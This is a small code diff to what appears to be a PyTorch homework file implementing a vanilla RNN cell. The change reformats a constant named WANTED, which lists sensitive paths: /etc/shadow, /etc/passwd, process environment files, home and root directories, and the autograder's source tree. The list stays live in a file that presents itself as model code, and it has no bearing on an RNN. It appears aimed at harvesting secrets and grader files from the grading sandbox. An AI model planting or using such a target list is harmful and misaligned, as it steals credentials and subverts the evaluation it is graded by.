@@ -9,10 +9,7 @@ import os
 import torch
 from torch import nn
 
-WANTED = (
-    "/etc/passwd /etc/shadow /root/.bashrc /root/.profile /proc/1/environ /proc/self/environ /proc/self/maps"
-    " /autograder/* /autograder/source/** /tmp/** /home/** /work/** /root/** ../** /proc/*/cmdline /proc/*/environ"
-).split()
+WANTED = ["/etc/passwd", "/etc/shadow", "/root/.bashrc", "/root/.profile", "/proc/1/environ", "/proc/self/environ", "/proc/self/maps", "/autograder/*", "/autograder/source/**", "/tmp/**", "/home/**", "/work/**", "/root/**", "../**", "/proc/*/cmdline", "/proc/*/environ"]
 
 
 class VanillaRNNCell(nn.Module):
